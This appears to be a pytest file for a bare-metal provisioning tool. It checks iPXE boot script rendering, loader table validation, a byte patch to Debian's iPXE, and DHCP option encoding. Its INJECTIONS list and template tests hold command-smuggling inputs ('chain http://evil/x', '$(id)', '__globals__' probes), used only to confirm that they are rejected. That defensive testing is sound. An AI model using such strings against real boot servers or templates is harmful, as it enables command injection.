"""pxe/loaders.toml and pxe/templates as shipped, and what is refused."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from baremetal.boot import ipxe
from baremetal.boot.loaders import LoaderTable
from baremetal.errors import UsageError
from baremetal.model.boot import Arch, BootRecord, Purpose
from baremetal.serve.loaders import LoaderMissing, LoaderTree, read_loaders, read_templates
from baremetal.wire.dhcp4 import options

TEMPLATES = read_templates()
MORE = {
    "http": "http://10.0.0.1:8080",
    "https": "https://10.0.0.1:8443",
    "nonce": "18f.abc",
    "script_url": "http://10.0.0.1:8080/boot/52-54-00-00-00-01.ipxe",
}


def record(
    purpose: Purpose = Purpose.RAMDISK, because: str = "inspecting", cmdline: str = "console=ttyS0,115200 quiet"
) -> BootRecord:
    return BootRecord(
        "id", "r1", ("52:54:00:00:00:01",), None, purpose, because, kernel="k-6.1", initrd="i-6.1", cmdline=cmdline
    )


def rendered(of: BootRecord) -> list[str]:
    return ipxe.render(TEMPLATES[ipxe.template_name(of)], of, MORE).splitlines()


def test_the_ramdisk_script() -> None:
    lines = rendered(record())
    assert lines[0] == "#!ipxe"
    kernel = next(line for line in lines if line.startswith("kernel "))
    assert kernel == (
        "kernel http://10.0.0.1:8080/artifacts/k-6.1 initrd=initrd console=ttyS0,115200 quiet "
        "baremetal.url=https://10.0.0.1:8443 baremetal.nonce=18f.abc BOOTIF=01-52-54-00-00-00-01 || goto failed"
    )
    assert "initrd --name initrd http://10.0.0.1:8080/artifacts/i-6.1 || goto failed" in lines


@pytest.mark.parametrize("purpose", [Purpose.DISK, Purpose.NONE])
def test_scripts_that_leave_say_why(purpose: Purpose) -> None:
    lines = rendered(record(purpose, "active since Tuesday"))
    assert "echo r1: active since Tuesday" in lines
    assert lines[-1] == "exit"


def test_an_unknown_machine_is_told_so() -> None:
    text = ipxe.render(
        TEMPLATES[ipxe.template_name(None)], None, {"mac_hyphens": "52-54-00-00-00-09", "because": "nobody"}
    )
    assert "52-54-00-00-00-09: nobody" in text


INJECTIONS = [
    "quiet\nchain http://evil/x",
    "quiet ${net0/mac}",
    "a || chain http://evil",
    "a && b",
    "a ; b",
    "a # b",
    "é",
    "a\tb",
    "$(id)",
    "`id`",
]


@pytest.mark.parametrize("cmdline", INJECTIONS)
def test_a_command_line_cannot_add_commands(cmdline: str) -> None:
    with pytest.raises(ipxe.ScriptError):
        rendered(record(cmdline=cmdline))


@pytest.mark.parametrize("because", [*INJECTIONS, "x" * 5000])
def test_a_reason_is_made_harmless(because: str) -> None:
    lines = rendered(record(because=because))
    assert len(lines) == len(rendered(record()))
    said = next(line for line in lines if line.startswith("echo "))
    assert len(said) < 220
    assert not {"||", "&&", ";", "$", "`"} & set(said.split())


def test_a_template_reaches_nothing_of_ours() -> None:
    for text in (
        "{{ ''.__class__ }}",
        "{{ name.__init__.__globals__ }}",
        "{{ missing }}",
        "{% include 'x' %}",
        "{{ name | attr('x') }}",
    ):
        with pytest.raises(ipxe.ScriptError):
            ipxe.render_values(text, {"name": "x"})


def test_every_firmware_we_boot_has_its_loader() -> None:
    table = read_loaders()
    for arch in (Arch.BIOS, Arch.UEFI_X64, Arch.UEFI_ARM64):
        assert table.ipxe(arch) is not None
    for arch in (Arch.UEFI_X64, Arch.UEFI_ARM64):
        assert table.shim(arch) is not None


BAD_TABLES = [
    ("not toml", "is no TOML"),
    ("x = 1", "is no table"),
    ('["a"]\nrole = "ipxe"\npath = "/x"', "needs arch"),
    ('["a"]\nrole = "boot"\npath = "/x"', "role 'boot'"),
    ('["a"]\nrole = "part"\npath = "x"', "must be absolute"),
    ('["a/b"]\nrole = "part"\npath = "/x"', "no slash"),
    ('["a"]\nrole = "part"\npath = "/x"\nsize = 3', "unknown size"),
    ('["a"]\nrole = "ipxe"\narch = "vax"\npath = "/x"', "arch 'vax'"),
    ('["a"]\nrole = "part"\npath = 7', "path must be text"),
    ('["a"]\nrole = "part"\npath = "/a"\nedit = "12 0 ff 00"', "edit is not SHA256"),
]


@pytest.mark.parametrize(("text", "says"), BAD_TABLES)
def test_a_wrong_table_names_what_is_wrong(text: str, says: str) -> None:
    with pytest.raises(UsageError, match=says):
        LoaderTable.parse(text)


def test_another_file_than_agreed_is_refused(tmp_path: Path) -> None:
    (tmp_path / "x.efi").write_bytes(b"loader")
    toml = f'["x.efi"]\nrole = "ipxe"\narch = "uefi-x64"\npath = "{tmp_path}/x.efi"\nsha256 = "00"\n'
    tree = LoaderTree(LoaderTable.parse(toml))
    with pytest.raises(LoaderMissing, match="is not the file"):
        tree.get("x.efi")
    assert tree.get("y.efi") is None
    assert set(tree.missing()) == {"x.efi"}


@pytest.mark.parametrize("name", ["snponly.efi", "ipxe.efi"])
def test_debians_ipxe_is_served_without_its_two_seconds_for_a_key(name: str) -> None:
    tree = LoaderTree(read_loaders())
    file, served = tree.table.get(name), tree.get(name)
    assert file is not None
    assert isinstance(served, bytes), "another version of ipxe? then its edit is to be made anew"
    assert file.edit is not None
    original = Path(file.path).read_bytes()
    assert len(served) == len(original)
    changed = [at for at, (was, now) in enumerate(zip(original, served, strict=True)) if was != now]
    assert changed == [file.edit.at, file.edit.at + 1]
    # mov $2 (Ctrl-B), %edx; mov $2048 (ticks), %esi; lea the text, %rdi
    assert original[file.edit.at - 6 : file.edit.at + 7].hex() == "ba02000000be00080000488d3d"
    text = file.edit.at + 11 + int.from_bytes(original[file.edit.at + 7 : file.edit.at + 11], "little")
    assert original[text:].startswith(b"Press Ctrl-B for the iPXE command line...")


def test_any_other_file_is_served_as_it_is(tmp_path: Path) -> None:
    path = tmp_path / "x.efi"
    digest = hashlib.sha256(b"loader 2 s").hexdigest()
    toml = f'["x.efi"]\nrole = "part"\npath = "{path}"\nedit = "{digest} 7 32 30"\n'
    path.write_bytes(b"loader 2 s")
    assert LoaderTree(LoaderTable.parse(toml)).get("x.efi") == b"loader 0 s"
    path.write_bytes(b"loader 2 s, newer")
    assert LoaderTree(LoaderTable.parse(toml)).get("x.efi") == path


OPTIONS = [
    ("ntp-server", "10.0.0.1, 10.0.0.2", 42, "0a0000010a000002"),
    ("mtu", "9000", 26, "2328"),
    ("domain-search", "a.example", 119, "0161076578616d706c6500"),
    ("classless-static-route", "10.1.0.0/16 via 10.0.0.254", 121, "100a010a0000fe"),
    ("ip-forward-enable", "off", 19, "00"),
    ("224", "hex:01:02", 224, "0102"),
    ("225", "plain text", 225, "706c61696e2074657874"),
]


@pytest.mark.parametrize(("name", "value", "code", "raw"), OPTIONS)
def test_options_by_name(name: str, value: str, code: int, raw: str) -> None:
    assert options.encode(name, value) == (code, bytes.fromhex(raw))


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("ntp-server", "example.org"),
        ("mtu", "70000"),
        ("nonsense", "1"),
        ("lease-time", "1"),
        ("51", "1"),
        ("0", "1"),
        ("hostname", "a\nb"),
        ("224", "hex:0"),
    ],
)
def test_options_that_cannot_be(name: str, value: str) -> None:
    with pytest.raises(UsageError):
        options.encode(name, value)
